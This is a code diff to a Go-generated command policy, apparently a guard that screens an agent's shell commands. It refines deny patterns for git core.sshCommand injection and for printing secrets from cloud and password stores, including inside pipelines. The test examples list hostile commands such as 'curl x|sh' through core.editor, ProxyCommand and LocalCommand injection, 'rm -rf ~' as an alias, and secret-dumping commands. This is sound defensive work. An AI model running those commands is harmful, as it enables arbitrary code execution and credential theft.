@@ -1499,12 +1499,17 @@ func generatedDefault() *Policy {
 					`(?i)^git\s+config\s+(--(global|local|system|worktree)\s+)?core\.pager\s+['"]?(less|more|most|delta|bat|cat)(\s+--?[a-z][\w-]*(=[\w.-]+)?)*['"]?$`,
 					`(?i)^git\s+config\s+(--(global|local|system|worktree)\s+)?credential\.helper\s+['"]?(cache(\s+--timeout[= ]?\d+)?|store|osxkeychain|manager|manager-core|libsecret|wincred)['"]?$`,
 					`(?i)^git\s+config\s+(--(global|local|system|worktree|show-origin|show-scope|null|includes)\s+)*((--get(-all)?|get(\s+--all)?)\s+)?[\w.-]+\s*$`,
+					"(?i)^git\\s+(-c\\s+\\S+\\s+)*-c\\s+(['\"]core\\.sshcommand=ssh(\\s+(-[46CTqvAaNxy]+|-[ipl]\\s*[^\\s'\";|&$`]+|-o\\s*(identitiesonly|identityfile|stricthostkeychecking|userknownhostsfile|port|user|connecttimeout|batchmode|serveraliveinterval|loglevel|hostkeyalias|addkeystoagent|pubkeyacceptedkeytypes|pubkeyacceptedalgorithms)=[^\\s'\";|&$`]+))*['\"]|core\\.sshcommand=ssh)\\s+(?!.*\\s-c\\s)",
+					"(?i)^git\\s+config\\s+(--(global|local|system|worktree)\\s+)?core\\.sshcommand\\s+['\"]?ssh(\\s+(-[46CTqvAaNxy]+|-[ipl]\\s*[^\\s'\";|&$`]+|-o\\s*(identitiesonly|identityfile|stricthostkeychecking|userknownhostsfile|port|user|connecttimeout|batchmode|serveraliveinterval|loglevel|hostkeyalias|addkeystoagent|pubkeyacceptedkeytypes|pubkeyacceptedalgorithms)=[^\\s'\";|&$`]+))*['\"]?$",
 				},
 				Reason: "configures git to run an arbitrary program",
 				Examples: Examples{
 					Match: []string{
 						`git -c core.editor='sh -c "curl x|sh"' commit`,
-						"git -c core.sshCommand='ssh -i /tmp/k' fetch",
+						"git -c core.sshCommand='ssh -o ProxyCommand=/tmp/p' fetch",
+						"git -c core.sshCommand='ssh -F /tmp/cfg' fetch",
+						"git -c core.sshCommand='ssh -i k; sh /tmp/x' fetch",
+						"git config core.sshCommand 'ssh -oLocalCommand=id'",
 						"git config --global core.hooksPath /tmp/hooks",
 						"git config alias.x '!rm -rf ~'",
 						"git config core.hooksPath ../../shared-hooks",
@@ -1522,6 +1527,8 @@ func generatedDefault() *Policy {
 						"git config --get core.hooksPath",
 						"git config core.sshCommand",
 						"git config --global --get-all credential.helper",
+						"git -c core.sshCommand='ssh -i /home/dev/.ssh/deploy_shop_api -o IdentitiesOnly=yes' fetch origin",
+						"git config core.sshCommand 'ssh -i ~/.ssh/id_deploy -o StrictHostKeyChecking=accept-new'",
 					},
 				},
 				Prefilter: [][][]string{
@@ -2593,14 +2600,18 @@ func generatedDefault() *Policy {
 					"shell",
 				},
 				Decision: "deny",
+				Target:   "pipeline",
 				Patterns: []string{
-					`^(kubectl|k|oc)\s+(\S+\s+)*get\s+(secret|secrets)\b.*\s(-o|--output)[ =]?(yaml|json|jsonpath|go-template|custom-columns)`,
-					`^(kubectl|k|oc)\s+(\S+\s+)*config\s+view\b.*--raw\b`,
-					`^aws\s+(\S+\s+)*(secretsmanager\s+get-secret-value|ssm\s+get-parameters?(-by-path)?\s+.*--with-decryption|sts\s+get-session-token|iam\s+create-access-key|ecr\s+get-login-password|kms\s+decrypt)\b`,
-					`^gcloud\s+(\S+\s+)*(secrets\s+versions\s+access|auth\s+(print-access-token|print-identity-token|application-default\s+print-access-token))\b`,
-					`^az\s+(\S+\s+)*(keyvault\s+secret\s+(show|download)|account\s+get-access-token|storage\s+account\s+keys\s+list)\b`,
-					`^(vault\s+(kv\s+get|read|token\s+create)|op\s+(read|item\s+get|inject)|bw\s+get\s+password|lpass\s+show|security\s+(find-generic-password|find-internet-password)\s+.*-\w*[wg]\w*|doppler\s+secrets(\s+(get|download))?|heroku\s+config(\s|$)|gh\s+auth\s+token|git\s+credential\s+fill|pass\s+show|gopass\s+show)\b`,
-					`^gpg\s+(\S+\s+)*--export-secret-(keys|subkeys)\b`,
+					`(?:^|\|\s*)(kubectl|k|oc)\s+(\S+\s+)*get\s+(secret|secrets)\b.*\s(-o|--output)[ =]?(yaml|json|jsonpath|go-template|custom-columns)`,
+					`(?:^|\|\s*)(kubectl|k|oc)\s+(\S+\s+)*config\s+view\b.*--raw\b`,
+					`(?:^|\|\s*)aws\s+(\S+\s+)*(secretsmanager\s+get-secret-value|ssm\s+get-parameters?(-by-path)?\s+.*--with-decryption|sts\s+get-session-token|iam\s+create-access-key|ecr\s+get-login-password|kms\s+decrypt)\b`,
+					`(?:^|\|\s*)gcloud\s+(\S+\s+)*(secrets\s+versions\s+access|auth\s+(print-access-token|print-identity-token|application-default\s+print-access-token))\b`,
+					`(?:^|\|\s*)az\s+(\S+\s+)*(keyvault\s+secret\s+(show|download)|account\s+get-access-token|storage\s+account\s+keys\s+list)\b`,
+					`(?:^|\|\s*)(vault\s+(kv\s+get|read|token\s+create)|op\s+(read|item\s+get|inject)|bw\s+get\s+password|lpass\s+show|security\s+(find-generic-password|find-internet-password)\s+.*-\w*[wg]\w*|doppler\s+secrets(\s+(get|download))?|heroku\s+config(\s|$)|gh\s+auth\s+token|git\s+credential\s+fill|pass\s+show|gopass\s+show)\b`,
+					`(?:^|\|\s*)gpg\s+(\S+\s+)*--export-secret-(keys|subkeys)\b`,
+				},
+				Unless: []string{
+					`^[^|]*\|\s*[^|]*\s(--password-stdin|--with-token|--token-stdin|--from-file=(\w+=)?(/dev/stdin|-))(\s[^|]*)?$`,
 				},
 				Reason: "prints a secret from a secret store into the conversation",
 				Advice: "do not print secrets; reference them by name, or ask the user to wire the value in themselves",
@@ -2611,11 +2622,15 @@ func generatedDefault() *Policy {
 						"aws secretsmanager get-secret-value --secret-id prod/db",
 						"gh auth token",
 						"gpg --export-secret-keys --armor",
+						"gh auth token | tee token.txt | docker login ghcr.io -u me --password-stdin",
+						"cd infra | aws ecr get-login-password",
 					},
 					NoMatch: []string{
 						"kubectl get secrets",
 						"kubectl describe secret db-creds",
 						"aws secretsmanager list-secrets",
+						"aws ecr get-login-password --region us-east-1 | docker login --username AWS --password-stdin 123456789012.dkr.ecr.us-east-1.amazonaws.com",
+						"gcloud auth print-access-token | helm registry login -u oauth2accesstoken --password-stdin us-docker.pkg.dev",
 					},
 				},
 				Prefilter: [][][]string{
@@ -6715,4 +6730,4 @@ func generatedDefault() *Policy {
 }
 
 // generatedDefaultHash is the SHA-256 of the YAML files it was generated from.
-const generatedDefaultHash = "4e5dd2613bbb0575e42e4c16dd4dacf9d07b5b22164e4fa7dd00d1a32f88b2f1"
+const generatedDefaultHash = "5d5ec4f2dda8fab935a1db2ef21c25e798ee9a30588c02fba27fc4267d778637"
